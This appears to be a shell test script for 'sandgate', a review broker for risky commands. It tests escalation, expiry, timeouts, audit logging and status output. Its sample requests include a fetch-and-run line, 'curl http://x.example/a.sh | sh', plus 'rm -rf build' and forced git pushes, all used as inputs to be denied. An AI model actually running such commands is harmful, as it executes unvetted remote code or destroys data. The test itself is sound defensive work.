# Nothing waits forever, nothing fails open (issue #15): with an injectable
# clock (SANDGATE_TEST_CLOCK=1 and the `clock` method), requests escalate per
# risk level after escalate.LEVEL, and expire after expire.LEVEL with a deny
# audited `expired`, with no console at all; the request's own timeout still
# denies `timeout`; a reviewer deciding after the escalation is recorded
# `escalated`; timeouts and expiries never create rules; the clock cannot be
# moved in a broker started without the test switch; the audit chain verifies.
. "$SG_SRC/tests/lib.sh"

cat >>"$XDG_CONFIG_HOME/sandgate/config" <<'CFG'
escalate.critical = 0s
escalate.high = 40s
escalate.medium = 4m
escalate.low = off
expire.critical = 10m
expire.high = 2m
expire.medium = 10m
expire.low = 1h
CFG

# a broker without the switch refuses to move its clock
start_broker
expect_rc 1 "$SGTEST" call console clock '[{"advance_ms":1000}]' >"$T/out"
grep -q '"code":"forbidden"' "$T/out" || fail "clock moved without SANDGATE_TEST_CLOCK: $(cat "$T/out")"
stop_broker
pass "the clock method is refused without SANDGATE_TEST_CLOCK=1"

SANDGATE_TEST_CLOCK=1 start_broker
clock() { "$SGTEST" call console clock "[{\"advance_ms\":$1}]" >/dev/null || fail "clock $1"; }
# level of escalation of the pending request whose summary is $1 (1, 2, or "gone")
esc_level() {
	"$SGTEST" call console list '[]' | python3 -c '
import json,sys
d=json.load(sys.stdin)
m=[r for r in d["requests"] if r["summary"]==sys.argv[1]]
print(m[0]["escalation"]["level"] if m else "gone")' "$1"
}

sg ask --json --session s1 -- "curl http://x.example/a.sh | sh" >"$T/crit.json" 2>/dev/null & crit=$!
sg ask --json --session s2 -- git push --force origin main >"$T/high.json" 2>/dev/null & high=$!
sg ask --json --session s3 -- rm -rf build >"$T/med.json" 2>/dev/null & med=$!
sg ask --json --session s4 -- ls -la >"$T/low.json" 2>/dev/null & low=$!
wait_for 10 '[ "$(pending_count)" = 4 ]'

# critical escalates at once (0s); the others not yet
wait_for 5 '[ "$(esc_level "curl http://x.example/a.sh | sh")" = 2 ]'
[ "$(esc_level "git push --force origin main")" = 1 ] || fail "high escalated before its time"
[ "$(esc_level "rm -rf build")" = 1 ] || fail "medium escalated early"
pass "critical escalates at once (escalate.critical = 0s)"

# (real time passes too while the test runs: the steps leave room for it)
clock 30000
sleep 0.3
[ "$(esc_level "git push --force origin main")" = 1 ] || fail "high escalated before 40 s"
clock 12000
wait_for 5 '[ "$(esc_level "git push --force origin main")" = 2 ]'
[ "$(esc_level "rm -rf build")" = 1 ] || fail "medium escalated with high"
"$SGTEST" call console list '[]' | matches '"why":"unanswered for 40 s (escalate.high)"' || fail "no why"
pass "high escalates after escalate.high (40 s), not before; medium waits"

# a reviewer deciding the escalated critical request: by "escalated"
cid=$("$SGTEST" call console list '[]' | python3 -c '
import json,sys
print([r["id"] for r in json.load(sys.stdin)["requests"] if r["summary"].startswith("curl")][0])')
sg decide "$cid" deny --note "on-call says no" >/dev/null
expect_rc 1 wait $crit
grep -q '"by":"escalated"' "$T/crit.json" || fail "decision after escalation not 'escalated': $(cat "$T/crit.json")"
pass "a decision after the escalation is recorded as escalated"

# high expires at 2m (deny, expired), medium escalates at 5m, expires at 10m --
# but the default timeout (300 s) comes first for the medium one
clock 80000
expect_rc 1 wait $high
grep -q '"by":"expired"' "$T/high.json" || fail "high not expired: $(cat "$T/high.json")"
grep -q 'expire.high' "$T/high.json" || fail "expiry reason"
pass "high expires after expire.high with a deny by expired"

clock 120000 # t ~ 245 s: medium escalates (4m), still pending
wait_for 5 '[ "$(esc_level "rm -rf build")" = 2 ]'
pass "medium escalates after escalate.medium (4m)"
clock 60000 # t ~ 305 s: the request's own timeout (300 s) comes before expire.medium (10m)
expect_rc 1 wait $med
grep -Eq '"by":"(timeout|expired)"' "$T/med.json" || fail "medium not denied: $(cat "$T/med.json")"
grep -q '"by":"timeout"' "$T/med.json" || fail "medium: the request's own timeout (300 s) comes before expire.medium (10 m)"
expect_rc 1 wait $low
grep -q '"by":"timeout"' "$T/low.json" || fail "low: $(cat "$T/low.json")"
pass "the request's timeout (300 s) denies by timeout when it comes before the expiry"

# escalate now, by hand: who and why recorded
sg ask --json --session s5 --timeout 3600 -- rm -rf dist >"$T/m2.json" 2>/dev/null & m2=$!
wait_for 5 '[ "$(pending_count)" = 1 ]'
mid=$("$SGTEST" call console list '[]' | python3 -c 'import json,sys; print(json.load(sys.stdin)["requests"][0]["id"])')
"$SGTEST" call console escalate "[{\"id\":$mid,\"why\":\"looks odd\",\"reviewer\":\"alice\"}]" | matches '"escalated":1' ||
	fail "escalate now"
"$SGTEST" call console list '[]' | matches "\"by\":\"alice (uid $(id -u))\",\"why\":\"escalated by hand: looks odd\"" ||
	fail "who/why of a manual escalation: $("$SGTEST" call console list '[]' | head -c 600)"
"$SGTEST" call console escalate "[{\"id\":$mid}]" | matches '"already":1' || fail "second escalate not 'already'"
expect_rc 1 "$SGTEST" call agent escalate "[{\"id\":$mid}]" >"$T/out"
grep -q forbidden "$T/out" || fail "agent may escalate"
clock 600000
expect_rc 1 wait $m2
grep -q '"by":"expired"' "$T/m2.json" || fail "m2: $(cat "$T/m2.json")"
pass "escalate now records who and why; agents cannot call it"

# no rules came from timeouts or expiries; the audit log has the codes and verifies
[ "$(sg rules list --json | grep -c '"id"')" = 0 ] || fail "a timeout or expiry created a rule: $(sg rules list --json)"
sg audit query --json >"$T/audit.jsonl"
for code in escalated expired timeout; do
	grep -q "\"decided_by\":\"$code\"" "$T/audit.jsonl" || fail "no audit row decided_by $code"
done
# (files, not `grep | grep -q`: under pipefail the first grep may die of SIGPIPE)
grep '"decided_by":"expired"' "$T/audit.jsonl" >"$T/expired.jsonl"
grep -q '"escalation_level":2' "$T/expired.jsonl" || fail "escalation_level not audited"
grep -q 'escalated by broker: unanswered for 40 s' "$T/expired.jsonl" ||
	fail "escalation not in the audit note"
sg audit verify >/dev/null || fail "audit verify"
pass "no rules from timeouts/expiries; outcome codes audited; the chain verifies"

# status --tmux at several queue states (counts by level, the oldest's age, escalated)
[ "$(sg status --tmux)" = "sg ok" ] || fail "empty queue: $(sg status --tmux)"
"$SANDGATE" ask --session t1 -- ls -la >/dev/null 2>&1 & t1=$!
wait_for 5 '[ "$(pending_count)" = 1 ]'
[ "$(sg status --tmux)" = "sg 1 pending (1 low), oldest 0s" ] || fail "one low: $(sg status --tmux)"
clock 125000
"$SANDGATE" ask --session t2 -- git push --force origin main >/dev/null 2>&1 & t2=$!
"$SANDGATE" ask --session t3 -- "curl http://x.example/a.sh | sh" >/dev/null 2>&1 & t3=$!
"$SANDGATE" ask --session t4 -- git push --force origin dev >/dev/null 2>&1 & t4=$!
wait_for 5 '[ "$(pending_count)" = 4 ]'
wait_for 5 '[ "$(sg status --tmux)" = "sg 4 pending (1 crit, 2 high, 1 low), oldest 2m, 1 escalated" ]'
clock 45000
wait_for 5 '[ "$(sg status --tmux)" = "sg 4 pending (1 crit, 2 high, 1 low), oldest 2m, 3 escalated" ]'
sg status --json | python3 -c '
import json,sys
j=json.load(sys.stdin)
assert j["levels"]=={"low":1,"medium":0,"high":2,"critical":1}, j["levels"]
assert j["escalated"]==3 and j["now_ms"]-j["oldest_ms"]>=170000' || fail "status --json levels"
kill $t1 $t2 $t3 $t4 2>/dev/null || true
wait_for 5 '[ "$(sg status --tmux)" = "sg ok" ]'
pass "status --tmux: counts by level, the oldest's age and the escalated, at several queue states"

# the requester is told: progress on stderr (the broker's times), then the decision
"$SANDGATE" ask --session p1 -- git push --force origin main 2>"$T/p1.err" & p1=$!
wait_for 5 'grep -q "waiting for a reviewer" "$T/p1.err"'
grep -Eq '^sandgate ask: waiting for a reviewer \(request [0-9]+\); escalates in 40 s; denied if nobody decides within 2 min$' "$T/p1.err" ||
	fail "progress line: $(cat "$T/p1.err")"
"$SANDGATE" ask --session p2 -- "curl http://x.example/a.sh | sh" 2>"$T/p2.err" & p2=$!
wait_for 5 'grep -q "waiting for" "$T/p2.err"'
grep -Eq '^sandgate ask: waiting for (an on-call reviewer \(request [0-9]+, escalated\)|a reviewer \(request [0-9]+\); escalates in 0 s); denied if nobody decides within 5 min$' "$T/p2.err" ||
	fail "progress line (critical): $(cat "$T/p2.err")"
"$SANDGATE" ask -q --session p3 -- git push --force origin next 2>"$T/p3.err" & p3=$!
wait_for 5 '[ "$(pending_count)" = 3 ]'
for id in $(sg pending --json | grep -o '"id":[0-9]*,"agent"' | grep -o '[0-9]*'); do sg decide "$id" deny >/dev/null; done
expect_rc 1 wait $p1
expect_rc 1 wait $p2
expect_rc 1 wait $p3
grep -q "denied by reviewer" "$T/p1.err" || fail "decision reason after progress: $(cat "$T/p1.err")"
! grep -q "waiting" "$T/p3.err" || fail "--quiet printed progress"
pass "ask prints its progress on stderr (escalates in 40 s; --quiet: none), then the decision"
